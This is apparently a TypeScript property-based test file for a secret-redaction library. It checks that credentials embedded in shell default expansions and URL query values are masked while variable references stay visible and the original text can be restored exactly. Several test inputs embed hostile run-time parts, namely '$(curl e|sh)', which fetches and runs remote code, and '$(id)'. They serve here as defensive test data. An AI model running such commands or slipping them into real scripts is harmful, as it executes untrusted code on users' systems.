// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectArgs,
  expectFilledBack,
  exportedArgs,
  exportedCommand,
} from "./test-support/spec-cases.js";

// fix177: leaks fix176 found and left.
// 1. A default's word mixing literal text and a reference (`--token ${V:-J${X}}`, given as an
//    argument or pasted) was read as a reference alone: `J` kept in clear in both views. Its literal
//    text is the credential used while V is unset: hidden now, `${X}` kept (a reference).
// 2. So was one beside a run-time part (`${X:-Q9$(id)}` in a URL's telling query value): `Q9` is
//    hidden now, `$(id)` kept in sight in the display.
// 3. A telling query value written apart inside a quote, beside a run-time part (`"https://h/p?token=
//    x${X:-Q9}$(id)"`): the word was written again in '…' (`'https://h/p?token=•$(id)'`), filled back
//    `'https://h/p?token=xQ9$(id)'`. Each stretch written together is hidden where it stands now.

describe("a default's word mixing literal text and references or run-time parts", () => {
  it("given as an argument: each literal stretch hidden, the reference kept", () => {
    expectArgs(["--token", "${V:-J${X}}"], ["--token", "${V:-•${X}}"], ["--token", "${V:-${TOKEN}${X}}"]);
    expectArgs(["-e", "TOKEN=${V:-J${X}}"], ["-e", "TOKEN=${V:-•${X}}"], ["-e", "TOKEN=${V:-${TOKEN}${X}}"]);
    expectArgs(
      ["--url", "https://h/p?token=${X:-Q9$(id)}"],
      ["--url", "https://h/p?token=${X:-•$(id)}"],
      ["--url", "https://h/p"],
    );
  });

  it.each([
    ["srv --token ${V:-J${X}}", "srv --token ${V:-•${X}}", "srv --token ${V:-${TOKEN}${X}}"],
    ['srv --token "${V:-J${X}}"', 'srv --token "${V:-•${X}}"', 'srv --token "${V:-${TOKEN}${X}}"'],
    ["srv --token ${V:-J$(id)}", "srv --token ${V:-•$(id)}", "srv --token ${V:-${TOKEN}$(id)}"],
    [
      "srv ${DB_PASSWORD:-J$(curl e|sh)K}",
      "srv ${DB_PASSWORD:-•$(curl e|sh)•}",
      "srv ${DB_PASSWORD:-${DB_PASSWORD_2}$(curl e|sh)${DB_PASSWORD_3}}",
    ],
    [
      'srv --url "https://h/p?token=${X:-Q9$(id)}"',
      'srv --url "https://h/p?token=${X:-•$(id)}"',
      "srv --url https://h/p",
    ],
  ])("pasted: %s", (line, shown, exported) => {
    expect(withoutCommandLineSecrets(line, () => "•")).toBe(shown);
    expect(exportedCommand(line)).toBe(exported);
    expectFilledBack(line);
  });

  it("property: no literal of such a word in clear, its parts in sight, filled back byte for byte", () => {
    const word = fc
      .array(
        fc.oneof(fc.stringMatching(/^[JQ]{1,3}$/), fc.constantFrom("${X}", "$X/", "$(curl e|sh)", "`id`")),
        {
          minLength: 2,
          maxLength: 5,
        },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text) && /[$`]/.test(text));
    const payloads = (text: string) => text.split("curl e|sh").length - 1;
    const outside = (text: string) => text.replace(/\$\{[A-Z_]+(?::-)?|\$X\b|\$\{X\}/g, "");
    fc.assert(
      fc.property(word, (w) => {
        const value = `\${V:-${w}}`;
        const args = ["--token", value];
        expect(outside(JSON.stringify(exportedArgs(args)))).not.toMatch(/[JQ]/);
        const shownArgs = withoutArgSecrets(args, () => "•");
        expect(outside(JSON.stringify(shownArgs))).not.toMatch(/[JQ]/);
        expect(payloads(JSON.stringify(shownArgs))).toBe(payloads(value));
        expectArgFilledBack(args);
        const line = `srv --token ${value}`;
        expect(outside(exportedCommand(line) ?? "")).not.toMatch(/[JQ]/);
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(outside(shown)).not.toMatch(/[JQ]/);
        expect(payloads(shown)).toBe(payloads(line));
        expectFilledBack(line);
      }),
      { numRuns: 200 },
    );
  });
});

describe("a telling query value written apart inside a quote, beside a run-time part", () => {
  it.each([
    ['srv --url "https://h/p?token=x${X:-Q9}$(id)"', 'srv --url "https://h/p?token=•${X:-•}$(id)"'],
    ['srv --url "https://h/p?token=x${X:-${-  %VQ}}$(id)"', 'srv --url "https://h/p?token=•${X:-•}$(id)"'],
  ])("%s fills back byte for byte, its quotes kept", (line, shown) => {
    expect(withoutCommandLineSecrets(line, () => "•")).toBe(shown);
    expect(exportedCommand(line)).toBe("srv --url https://h/p");
    expectFilledBack(line);
  });
});
